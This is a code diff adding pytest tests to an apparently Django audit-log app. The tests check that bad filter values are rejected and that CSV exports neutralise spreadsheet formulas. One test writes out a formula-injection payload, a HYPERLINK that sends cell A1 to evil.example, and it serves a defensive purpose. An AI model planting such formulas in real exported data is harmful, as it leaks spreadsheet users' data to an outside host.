@@ -170,3 +170,50 @@ class TestRecordBatch:
         assert audit.entries(date_from=day, date_to=day).filter(pk=entry.pk).exists()
         assert not audit.entries(date_to=day - timedelta(days=1)).filter(pk=entry.pk).exists()
         assert not audit.entries(date_from=day + timedelta(days=1)).filter(pk=entry.pk).exists()
+
+
+class TestHostileFilters:
+    @pytest.mark.parametrize(
+        "query",
+        [
+            {"model": "9" * 30},
+            {"model": "99999999999"},
+            {"model": "²"},
+            {"model": "٣"},
+            {"to": "9999-12-31"},
+            {"from": "0001-01-01"},
+        ],
+    )
+    def test_a_bad_filter_is_an_error_on_the_page_and_a_400_export(
+        self, admin_login: Any, tariff: TariffVersion, query: dict[str, str]
+    ) -> None:
+        client = _logged_in(admin_login)
+        page = client.get("/audit/", query)
+        assert page.status_code == 200 and page.context["filters"].errors
+        export = client.get("/audit/export.csv", query)
+        assert export.status_code == 400
+        assert not export.streaming and export.content.decode()
+
+    def test_a_model_the_filter_does_not_offer_is_refused(
+        self, admin_login: Any, tariff: TariffVersion
+    ) -> None:
+        unaudited = ContentType.objects.get_for_model(ContentType)
+        client = _logged_in(admin_login)
+        assert client.get("/audit/export.csv", {"model": unaudited.pk}).status_code == 400
+
+
+class TestExportNeutralisesFormulas:
+    def test_text_a_spreadsheet_would_run_is_quoted(self, admin_login: Any, tariff: TariffVersion) -> None:
+        tariff.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        tariff.save()
+        client = _logged_in(admin_login)
+        ct = ContentType.objects.get_for_model(TariffVersion)
+        export = client.get("/audit/export.csv", {"model": ct.pk})
+        text = b"".join(export.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+        rows = list(csv.DictReader(io.StringIO(text)))
+        (name,) = [r for r in rows if r["field"] == "name" and r["action"] == "update"]
+        assert name["after"] == "'" + tariff.name
+        assert name["before"] == "居民平价"
+        for r in rows:
+            for cell in r.values():
+                assert cell.lstrip(" ")[:1] not in ("=", "+", "@", "\t", "\r"), r
